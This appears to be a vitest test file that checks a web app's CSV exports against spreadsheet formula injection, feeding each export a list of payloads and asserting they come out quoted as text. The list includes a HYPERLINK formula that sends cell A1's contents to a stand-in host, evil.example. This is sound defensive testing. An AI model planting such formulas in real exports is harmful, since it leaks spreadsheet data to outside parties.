import type { FormDefinition } from "@contract/forms";
import type { AppLoadContext } from "@remix-run/cloudflare";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { participantsCsv } from "../activities/csv";
import { hoursCsv, organizationsCsv, reportCsv } from "../analytics/csv";
import { submissionsCsv } from "../forms/csv";
import { formulaSafe } from "./write";

// Every CSV the product writes, fed each value a visitor or staff member could type to make a
// spreadsheet run a formula, in every text cell and every header. The file is read back by another
// library (csv-parse) and every cell, and every part of it a spreadsheet may split off at `;` or
// `,`, must be text.
const DANGEROUS = [
  '=HYPERLINK("http://evil.example/?"&A1,"klik")',
  "+1+1",
  "-1+1",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "Jan;=1+1",
  "Jan,+1+1",
  "Jan; -1+1",
  "Jan;@x",
];
const FORMULA_START = /^[=+\-@\t\r]/;

function formulaCells(csv: string): string[] {
  expect(csv.startsWith("\uFEFF")).toBe(true);
  const cells = (parse(csv, { bom: true, relax_column_count: true }) as string[][]).flat();
  return cells.filter((cell) => FORMULA_START.test(cell) || cell.split(/[;,]/).some((part) => FORMULA_START.test(part.replace(/^ +/, ""))));
}

// A translation function that answers a dangerous text for every key: headers and labels too.
const tWith = (value: string) => (() => value) as unknown as AppLoadContext["t"];
const text = (value: string) => ({ nl: value, en: value });

function formExport(value: string) {
  const definition: FormDefinition = {
    steps: [{ title: text("") }],
    fields: [
      { key: "name", type: "short_text", step: 1, label: text(value), help: text(""), required: false, min: null, max: null, options: [] },
      {
        key: "pick",
        type: "multiple_choice",
        step: 1,
        label: text(value),
        help: text(""),
        required: false,
        min: null,
        max: null,
        options: [{ value, label: text(value) }],
      },
      { key: "ok", type: "yes_no", step: 1, label: text(value), help: text(""), required: false, min: null, max: null, options: [] },
    ],
  };
  return submissionsCsv(
    definition,
    [{ createdAt: "2026-11-25T10:00:00.000Z", version: 1, definition, answers: { name: value, pick: [value], ok: true } }],
    "nl",
    {
      received: value,
      version: value,
      yes: value,
      no: value,
    },
  );
}

function participantsExport(value: string) {
  const signUp = { id: "1", activityId: "1", activityTitle: value, name: value, email: value, status: "confirmed", guest: true, createdAt: value } as const;
  return participantsCsv([signUp], tWith(value));
}

function reportExport(value: string) {
  const group = { key: "1", label: value, current: 7, previous: null };
  return reportCsv(
    {
      from: value,
      to: value,
      previousFrom: value,
      previousTo: value,
      metric: "applications",
      totals: [{ metric: "applications", current: 12, previous: 3 }],
      byMonth: [{ month: value, previousMonth: value, current: 5, previous: 6 }],
      byTheme: [group],
      byPlace: [group],
      rolledThrough: null,
    },
    tWith(value),
  );
}

function organizationsExport(value: string) {
  const row = { id: "7", name: value, vacanciesPublished: 5, applications: 9, accepted: 6, declined: null, acceptanceRate: 0.5, medianResponseHours: 12 };
  return organizationsCsv([row], tWith(value));
}

function hoursExport(value: string) {
  const group = { key: "1", label: value, current: 150, previous: 0 };
  return hoursCsv(
    {
      from: value,
      to: value,
      previousFrom: value,
      previousTo: value,
      minutes: { current: 150, previous: 0 },
      records: { current: 2, previous: 0 },
      byMonth: [{ month: value, previousMonth: value, current: 150, previous: 0 }],
      byOrganization: [group],
      byTheme: [group],
      yearMinutes: 150,
      last30DaysMinutes: 0,
      pendingRecords: 1,
      pendingCapped: false,
    },
    tWith(value),
  );
}

const EXPORTS = {
  forms: formExport,
  participants: participantsExport,
  analyticsReport: reportExport,
  analyticsOrganizations: organizationsExport,
  analyticsHours: hoursExport,
};

describe("every CSV export", () => {
  for (const [name, write] of Object.entries(EXPORTS))
    for (const value of DANGEROUS)
      it(`${name} writes ${JSON.stringify(value)} as text`, () => {
        const csv = write(value);
        expect(formulaCells(csv)).toEqual([]);
        // The value is still there, a quote before each formula start and nothing lost.
        expect(csv).toContain(formulaSafe(value).replace(/"/g, '""'));
      });
});

describe("formulaSafe", () => {
  it("quotes a formula start, also after a separator, and leaves other text alone", () => {
    expect(formulaSafe("=1+1")).toBe("'=1+1");
    expect(formulaSafe("Jan;=1+1")).toBe("Jan;'=1+1");
    expect(formulaSafe("De Vries, Jan")).toBe("De Vries, Jan");
    expect(formulaSafe("e-mail: a@b.nl")).toBe("e-mail: a@b.nl");
  });
});
